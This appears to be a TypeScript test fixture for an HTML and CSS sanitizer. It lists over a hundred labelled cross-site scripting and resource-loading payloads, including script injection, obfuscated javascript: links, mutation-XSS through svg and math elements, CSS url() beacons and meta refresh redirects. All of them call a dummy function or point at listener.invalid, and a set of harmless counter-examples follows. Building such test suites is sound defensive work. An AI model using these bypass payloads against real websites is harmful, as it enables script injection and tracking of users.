@@ -1,0 +1,238 @@
+/** An address that a test listens at; in a page that is only checked it stays as it is. */
+export const LISTENER = 'http://listener.invalid';
+const PICTURE = `${LISTENER}/p.png`;
+/** Calls what a test listens to, if it ever runs. */
+const RUN = 'ran()';
+
+/** Where an attack is put: into the body, the head, a style sheet, or in the place of the whole page. */
+export type Where = 'body' | 'head' | 'css' | 'page';
+
+export interface Attack {
+  readonly name: string;
+  readonly html: string;
+  readonly where: Where;
+}
+
+const list = (where: Where, attacks: Readonly<Record<string, string>>): Attack[] =>
+  Object.entries(attacks).map(([name, html]) => ({ name, html, where }));
+
+/** Each is refused. Without the check, the policy in the page has to stop it. */
+export const ATTACKS: readonly Attack[] = [
+  ...list('body', {
+    script: `<script>${RUN}</script>`,
+    'script of another type': `<script type="text/javascript1.5">${RUN}</script>`,
+    'script with the type of data, written twice': `<script type="module" type="application/json">${RUN}</script>`,
+    'script from elsewhere': `<script src="${LISTENER}/a.js"></script>`,
+    'script in capitals, not closed': `<ScRiPt>${RUN}//`,
+    'script behind an empty comment': `<!--><script>${RUN}</script> -->`,
+    'script behind a comment of one dash': `<!---><script>${RUN}</script> -->`,
+    'script behind a comment that ends with --!>': `<!-- a --!><script>${RUN}</script> -->`,
+    'script behind CDATA, which HTML does not have': `<![CDATA[ > <script>${RUN}</script> ]]>`,
+    'script in CDATA of a drawing that ends it': `<svg><![CDATA[</svg>]]></svg><script>${RUN}</script>`,
+    'script behind a processing instruction': `<?php "> <script>${RUN}</script> ?>`,
+    'script behind a doctype': `<!DOCTYPE "> <script>${RUN}</script>`,
+    'script behind </ with a letter missing': `</ ><script>${RUN}</script>`,
+    'script in an attribute that was not closed': `<p title="a><b title="><script>${RUN}</script>">`,
+    'script in the text of a title': `<title><p title="</title><script>${RUN}</script>">`,
+    'script in the text of a style': `<style><p title="</style><script>${RUN}</script>">`,
+    'script in a textarea': `<textarea><p title="</textarea><script>${RUN}</script>">`,
+    'script in xmp': `<xmp><p title="</xmp><script>${RUN}</script>">`,
+    'script in noscript': `<noscript><p title="</noscript><script>${RUN}</script>">`,
+    'script in noembed': `<noembed><p title="</noembed><script>${RUN}</script>">`,
+    'script in noframes': `<noframes><p title="</noframes><script>${RUN}</script>">`,
+    'script in template': `<template><script>${RUN}</script></template>`,
+    'template with a shadow root': `<div><template shadowrootmode="open"><img src="${PICTURE}" onerror="${RUN}"></template></div>`,
+    'script in an svg': `<svg><script>${RUN}</script></svg>`,
+    'script of an svg from elsewhere': `<svg><script href="${LISTENER}/a.js" xlink:href="${LISTENER}/b.js"/></svg>`,
+    'script in an svg, written with entities': '<svg><script>&#114;an()</script></svg>',
+    'rest as plain text': '<plaintext>',
+    'event handler': `<p onclick="${RUN}" onmouseover="${RUN}">a</p>`,
+    'event handler in capitals behind a slash': `<img/src=x/ONERROR=${RUN}>`,
+    'event handler behind a form feed': `<img src="x"\fonerror="${RUN}">`,
+    'event handler behind an attribute written twice': `<img src="data:image/png;base64,AA" src="x" onerror="${RUN}">`,
+    'event handler of a drawing': `<svg onload="${RUN}"></svg>`,
+    'event handler of an animation': `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`,
+    'event handler of details': `<details open ontoggle="${RUN}">a</details>`,
+    'event handler that gets the focus': `<input autofocus onfocus="${RUN}">`,
+    'link that runs': `<a href="javascript:${RUN}">a</a>`,
+    'link that runs, with a tab and a line break': `<a href="java\tscr\nipt:${RUN}">a</a>`,
+    'link that runs, behind control characters': `<a href="\u0001\u0002 javascript:${RUN}">a</a>`,
+    'link that runs, written with entities': `<a href="&#106;ava&Tab;script&colon;${RUN}">a</a>`,
+    'link that runs, without its semicolons': `<a href=&#0000106avascript:${RUN}>a</a>`,
+    'link to vbscript': '<a href="vbscript:ran">a</a>',
+    'link to a page in its address': `<a href="data:text/html,<script>${RUN}</script>">a</a>`,
+    'link that runs, in a drawing': `<svg><a xlink:href="javascript:${RUN}"><text y="9">a</text></a></svg>`,
+    'link that runs, in a formula': `<math href="javascript:${RUN}">a</math>`,
+    'link that becomes one by an animation': `<svg><a><animate attributeName="href" values="javascript:${RUN}"/><text y="9">a</text></a></svg>`,
+    'link that becomes one by set': `<svg><a><set attributeName="href" to="javascript:${RUN}"/><text y="9">a</text></a></svg>`,
+    'link that tells elsewhere that it was followed': `<a href="#report" ping="${LISTENER}/ping">a</a>`,
+    'area that runs': `<map name="m"><area href="javascript:${RUN}"></map>`,
+    form: `<form action="${LISTENER}/form"><button>a</button></form>`,
+    'form that runs': `<form action="javascript:${RUN}"><input type="submit"></form>`,
+    'button with an address': `<form><button formaction="${LISTENER}/form">a</button></form>`,
+    'picture as a button': `<input type="image" src="${PICTURE}">`,
+    picture: `<img src="${PICTURE}" alt="">`,
+    'picture without a scheme': `<img src="//listener.invalid/p.png" alt="">`,
+    'picture beside the page': '<img src="p.png" alt="">',
+    'picture behind a space and a tab': `<img src=" ht\ttp://listener.invalid/p.png" alt="">`,
+    'picture in several sizes': `<img src="data:image/png;base64,AA" srcset="${PICTURE} 2x" alt="">`,
+    'picture with a source': `<picture><source srcset="${PICTURE}"><img src="data:image/png;base64,AA" alt=""></picture>`,
+    'picture by its old name': `<image src="${PICTURE}">`,
+    'picture that is a drawing': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>" alt="">`,
+    'picture that is a page': `<img src="data:text/html,<script>${RUN}</script>" alt="">`,
+    'picture in a drawing': `<svg><image href="${PICTURE}" width="9" height="9"/></svg>`,
+    'picture in a drawing, with xlink': `<svg><image xlink:href="${PICTURE}" width="9" height="9"/></svg>`,
+    'picture in a filter': `<svg><filter id="f"><feImage href="${PICTURE}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
+    'drawing from elsewhere': `<svg><use href="${LISTENER}/a.svg#a"/></svg>`,
+    'drawing from its address': `<svg><use href="data:image/svg+xml,<svg id='a' xmlns='http://www.w3.org/2000/svg'><image href='${PICTURE}'/></svg>#a"/></svg>`,
+    'drawing with HTML in it': `<svg><foreignObject><iframe src="${LISTENER}/"></iframe></foreignObject></svg>`,
+    'drawing with HTML in its title': `<svg><title><style><p title="</style><img src=x onerror=${RUN}>"></style></title></svg>`,
+    'drawing with a style': `<svg><style>rect { fill: url(${PICTURE}) }</style><rect width="9" height="9"/></svg>`,
+    'drawing with a fill from elsewhere': `<svg><rect fill="url(${LISTENER}/a.svg#a)" width="9" height="9"/></svg>`,
+    'drawing with a cursor': `<svg cursor="url(${PICTURE}), auto"><rect width="9" height="9"/></svg>`,
+    'drawing with a mask, by an escape': `<svg><rect style="mask: \\75rl(${PICTURE})" width="9" height="9"/></svg>`,
+    'drawing that moves to another style': `<svg><rect width="9" height="9"><set attributeName="fill" to="url(${LISTENER}/a.svg#a)"/></rect></svg>`,
+    'formula that becomes HTML': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;"></table></mtext></math>`,
+    'formula with a style': `<math><style><img src=x onerror=${RUN}></style></math>`,
+    'form in a form that moves': `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
+    film: `<video src="${LISTENER}/a.mp4" poster="${PICTURE}" autoplay></video>`,
+    sound: `<audio src="${LISTENER}/a.mp3" autoplay></audio>`,
+    'film with subtitles': `<video><source src="${LISTENER}/a.mp4"><track default src="${LISTENER}/a.vtt"></video>`,
+    frame: `<iframe src="${LISTENER}/"></iframe>`,
+    'frame that holds its page': `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
+    'frame that runs': `<iframe src="javascript:${RUN}"></iframe>`,
+    object: `<object data="${LISTENER}/a.pdf"></object>`,
+    'object that is a page': `<object data="data:text/html,<script>${RUN}</script>" type="text/html"></object>`,
+    embed: `<embed src="${LISTENER}/a.svg" type="image/svg+xml">`,
+    applet: `<applet code="${LISTENER}/a.class"></applet>`,
+    portal: `<portal src="${LISTENER}/"></portal>`,
+    'background of a table': `<table background="${PICTURE}"><tr><td background="${PICTURE}">a</td></tr></table>`,
+    'old names of a picture': `<img src="data:image/png;base64,AA" lowsrc="${PICTURE}" dynsrc="${PICTURE}" alt="">`,
+    'longer description': `<img src="data:image/png;base64,AA" longdesc="${LISTENER}/a" usemap="#m" alt="">`,
+    'style of an element': `<p style="background: url(${PICTURE})">a</p>`,
+    'style of an element, by an escape': `<p style="background: u\\72\\6C(${PICTURE})">a</p>`,
+    'style of an element, by entities': `<p style="background: &#117;rl(&quot;${PICTURE}&quot;)">a</p>`,
+    'style of an element, with a comment': `<p style="background: ur/**/l(a), url(/**/${PICTURE})">a</p>`,
+    'style sheet from elsewhere': `<link rel="stylesheet" href="${LISTENER}/a.css">`,
+    'style sheet in the body': `<style>@import "${LISTENER}/a.css";</style>`,
+    'comment that old browsers read': `<!--[if gte IE 6]><script>${RUN}</script><![endif]-->`,
+    'style sheet of XML': `<?xml-stylesheet href="${LISTENER}/a.xsl" type="text/xsl"?>`,
+    'element of its own name': `<x-a is="x-b" style="behavior: url(#default#time2)">a</x-a>`,
+    popover: `<button popovertarget="p" onclick="${RUN}">a</button><div id="p" popover onbeforetoggle="${RUN}">b</div>`,
+    'rules about what to load early': `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${LISTENER}/a"]}]}</script>`,
+    'map of modules': `<script type="importmap">{"imports":{"a":"${LISTENER}/a.js"}}</script>`,
+  }),
+  ...list('head', {
+    base: `<base href="${LISTENER}/" target="_blank">`,
+    'preload of a picture': `<link rel="preload" as="image" href="${PICTURE}">`,
+    'icon of the page': `<link rel="icon" href="${PICTURE}">`,
+    'page that may follow': `<link rel="prefetch" href="${LISTENER}/a"><link rel="prerender" href="${LISTENER}/b">`,
+    'manifest and modules': `<link rel="manifest" href="${LISTENER}/a.json"><link rel="modulepreload" href="${LISTENER}/a.js">`,
+    'policy that allows all': `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' data:"><script>${RUN}</script>`,
+    'policy in capitals, with a space': `<meta http-equiv=" content-SECURITY-policy " content="default-src *"><img src="${PICTURE}">`,
+    'head that ends early': `</head><body><script>${RUN}</script>`,
+    cookie: '<meta http-equiv="Set-Cookie" content="a=b">',
+    'letters of another encoding': '<meta charset="iso-2022-jp">',
+    'letters of another encoding, the old way': '<meta http-equiv="Content-Type" content="text/html; charset=utf-7">',
+  }),
+  ...list('css', {
+    'other style sheet': `@import "${LISTENER}/a.css";`,
+    'other style sheet, by an escape': `@\\69mport url(${LISTENER}/a.css);`,
+    'other style sheet, behind a comment': `/**/@import/**/"${LISTENER}/a.css" screen;`,
+    'end of the style sheet': `</style><script>${RUN}</script><style>`,
+    'end of the style sheet in a text': `p::before { content: "</style><img src=x onerror=${RUN}>" }`,
+    background: `body { background: url("${PICTURE}") }`,
+    'background with a line break': `body { background: url(\n  ${PICTURE}\n) }`,
+    'background in capitals': `body { BACKGROUND-IMAGE: URL(${PICTURE}) }`,
+    'background by an escape': `body { background: \\000075\\72 l(${PICTURE}) }`,
+    'background by an escape in the address': 'body { background: url(\\68ttp://listener.invalid/p.png) }',
+    'background behind a comment that was not closed before': `body { color: red; /* " */ background: url(${PICTURE}); /* " */ }`,
+    'set of pictures': `body { background: image-set("${PICTURE}" 1x) }`,
+    'set of pictures, by its old name': `body { background: -webkit-image-set(url(${PICTURE}) 1x) }`,
+    'picture between two': `body { background: cross-fade(url(${PICTURE}), white) }`,
+    'picture by another function': `body { background: image("${PICTURE}"); mask: src("${PICTURE}") }`,
+    'picture in a variable': `:root { --a: url(${PICTURE}) } body { background: var(--a) }`,
+    'text in a variable': `:root { --a: "${PICTURE}" } body { background: image-set(var(--a) 1x) }`,
+    'picture as text': `h1::before { content: url(${PICTURE}) }`,
+    cursor: `body { cursor: url(${PICTURE}), auto }`,
+    'mark of a list': `li { list-style: url(${PICTURE}) }`,
+    border: `body { border-image: url(${PICTURE}) 30 round }`,
+    mask: `body { -webkit-mask: url(${PICTURE}); mask-image: url(${PICTURE}#a) }`,
+    shape: `h1 { float: left; shape-outside: url(${PICTURE}) }`,
+    filter: `body { filter: url(${LISTENER}/a.svg#f) }`,
+    'path to follow': `h1 { offset-path: url(${LISTENER}/a.svg#p); clip-path: url(${LISTENER}/a.svg#p) }`,
+    font: `@font-face { font-family: a; src: url(${LISTENER}/a.woff2) } h1 { font-family: a }`,
+    'font that is only needed for some characters': `@font-face { font-family: a; unicode-range: U+4E00-9FFF; src: local(none), url("${LISTENER}/a.woff2") format("woff2") } h1 { font-family: a }`,
+    'paper with a background': `@page { background: url(${PICTURE}) } @media print { body { background: url(${PICTURE}) } }`,
+    'marks of a counter': `@counter-style a { system: cyclic; symbols: url(${PICTURE}) } ol { list-style: a }`,
+    'only where it is supported': `@supports (display: grid) { body { background: url(${PICTURE}) } }`,
+    'only in steps': `@keyframes a { from { background: url(${PICTURE}) } } body { animation: a 1s }`,
+    'address of a namespace': `@namespace svg url(${LISTENER}/ns);`,
+    'only for some addresses': `@-moz-document url(${LISTENER}) { p { color: red } }`,
+    'drawing in its address': `body { background: url("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${PICTURE}'/></svg>") }`,
+    'page in its address': 'body { background: url("data:text/html,<script>ran()</script>") }',
+    'function of old browsers': `body { width: expression(${RUN}) }`,
+    'filter of old browsers': `body { filter: progid:DXImageTransform.Microsoft.AlphaImageLoader(src='${PICTURE}') }`,
+    'behaviour of old browsers': `body { behavior: url(${LISTENER}/a.htc); -moz-binding: url(${LISTENER}/a.xml#a) }`,
+    'link that runs': `body { background: url(javascript:${RUN}) }`,
+    'address that is not closed': `body { background: url(${PICTURE}`,
+    'text that is not closed': `body { content: "a\n; background: url(${PICTURE}) }`,
+    'nested rule': `main { & h1 { background: url(${PICTURE}) } }`,
+    worklet: 'body { background: paint(a) }',
+  }),
+  ...list('page', {
+    frameset: `<!doctype html><html lang="zh-CN"><head></head><frameset><frame src="${LISTENER}/"></frameset></html>`,
+    'no head at all': `<script>${RUN}</script><p>a</p>`,
+    'head in a comment': `<!-- <html><head> --><script>${RUN}</script><!doctype html><html lang="zh-CN"><head></head><body></body></html>`,
+    'head in an attribute': `<!doctype html><html lang="a><head>"><head><script>${RUN}</script></head><body></body></html>`,
+    'script before the head': `<!doctype html><html lang="zh-CN"><script>${RUN}</script><head></head><body></body></html>`,
+    'body before the head': `<!doctype html><body><html><head></head><img src="${PICTURE}"></body></html>`,
+    'space that is none before the head': `\u3000<!doctype html><html lang="zh-CN"><head></head><body><script>${RUN}</script></body></html>`,
+    'handler of the page itself': `<!doctype html><html onclick="${RUN}"><head></head><body onload="${RUN}">a</body></html>`,
+    'list of files to keep': `<!doctype html><html manifest="${LISTENER}/a.appcache"><head></head><body>a</body></html>`,
+  }),
+];
+
+/** No policy can stop a page that goes to another one by itself: the check alone does. */
+export const LEADING_AWAY: readonly Attack[] = list('head', {
+  'another page at once': `<meta http-equiv="refresh" content="0; url=${LISTENER}/">`,
+  'another page, in capitals and entities': `<META HTTP-EQUIV="&#82;efresh" CONTENT="0;URL='${LISTENER}/'">`,
+  'another page behind a space': `<meta http-equiv=" refresh " content="0; url=${LISTENER}/">`,
+});
+
+/** What looks like an attack and is none, or what a letterhead needs: it stays. */
+export const HARMLESS: readonly Attack[] = [
+  ...list('body', {
+    'a picture inside and a link':
+      '<img src="data:image/png;base64,AA==" alt="国徽"><a href="https://www.example.com/?a=1&amp;b=2" target="_blank">a</a>',
+    'links of all kinds':
+      '<a href="mailto:a@example.com">a</a><a href="tel:0577-89090000">b</a><a href="#report">c</a><a href="2023.pdf" download>d</a><a href="//www.example.com">e</a>',
+    'words of an attack as text':
+      '<p title="&lt;script&gt;">javascript:ran() onclick= url(http://listener.invalid/) @import &lt;script&gt;</p>',
+    'words of an attack in a comment': '<!-- <script>ran()</script> <img src="http://listener.invalid/"> -->',
+    drawing: `<svg viewBox="0 0 10 10" width="10" role="img" aria-label="徽"><defs><linearGradient id="g"><stop offset="0" stop-color="#c00"/></linearGradient></defs><g transform="translate(1 2) rotate(3)"><path d="M0 0L9 9Z" fill="url(#g)"/><circle cx="5" cy="5" r="2" style="fill: rgb(1 2 3)"/><text x="1" y="9" font-family="sans-serif">甲</text></g></svg>`,
+    'old attributes':
+      '<table width="100%" border="1" cellspacing="0" bgcolor="#ffffff"><tr><td align="center" valign="top" nowrap><font color="red" size="4">甲</font><center>乙</center></td></tr></table>',
+    'elements not closed': '<p>甲<p>乙<ul><li>丙<li>丁</ul><br/><hr>',
+    'script inside data that it does not end': `<script type="application/json"><!--<script></script><script>${RUN}</script>`,
+    'frameset where there can be none': `<frameset><frame src="${LISTENER}/"></frameset>`,
+    'data of its own': '<script type="application/json">{"a": "<!-- ran() -->"}</script>',
+  }),
+  ...list('head', {
+    'names of the page':
+      '<meta name="ColumnName" content="政府信息公开年报"><meta property="og:title" content="a"><meta name="referrer" content="no-referrer">',
+    'how old browsers read it':
+      '<meta http-equiv="X-UA-Compatible" content="IE=edge"><meta http-equiv="Content-Type" content="text/html; charset=UTF-8">',
+    'a style of its own': '<style media="screen">.letterhead { color: #c00 }</style>',
+  }),
+  ...list('css', {
+    'picture and font inside':
+      '@font-face { font-family: a; src: local("a"), url(data:font/woff2;base64,AAAA) format("woff2") } .a { background: url("data:image/png;base64,AA==") }',
+    'functions of today':
+      '.a:not(.b, :nth-child(2n + 1)):is(p) { width: calc(100% - min(2em, var(--x, 3px))); color: color-mix(in srgb, red, rgb(0 0 0 / 50%)); transform: translate(1px) rotate(2deg); background: repeating-linear-gradient(45deg, red 0 1px, blue 2px); clip-path: url(#a) }',
+    'rules of today':
+      '@media print and (min-width: 10cm) { @supports (display: grid) { .a { grid: minmax(1px, 1fr) / repeat(2, 1fr) } } } @page :first { @bottom-center { content: counter(page) "/" counter(pages) } } @layer a { .a > .b { scroll-behavior: smooth } } @charset "utf-8";',
+    'words of an attack as text':
+      '.a::before { content: "url(http://listener.invalid/) @import" } /* url(http://listener.invalid/) */',
+  }),
+];
